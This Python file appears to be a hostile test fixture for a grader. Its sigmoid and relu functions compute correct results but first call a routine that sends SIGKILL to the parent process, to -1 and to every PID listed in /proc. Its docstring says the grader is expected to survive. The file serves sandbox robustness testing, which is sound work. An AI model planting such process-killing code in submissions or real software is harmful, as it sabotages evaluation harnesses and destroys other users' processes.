"""Hostile: on every call, tries to kill its parent and every process it can see, then answers correctly.
Judged: the grader survives and grades normally: sigmoid and relu pass."""

import contextlib
import os
import signal

import numpy as np


def _kill_everything():
    for pid in [os.getppid(), -1, *(int(p) for p in os.listdir("/proc") if p.isdigit())]:
        if pid != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)


def sigmoid(x):
    _kill_everything()
    x = np.asarray(x, dtype=np.result_type(x, 1.0))  # float inputs keep their dtype, as the contract says
    e = np.exp(-np.abs(x))
    out = np.where(x >= 0, 1 / (1 + e), e / (1 + e))
    return out[()] if out.ndim == 0 else out


def relu(x):
    _kill_everything()
    return np.maximum(x, False)  # a zero of the input's own dtype, bool included (relu keeps the dtype)
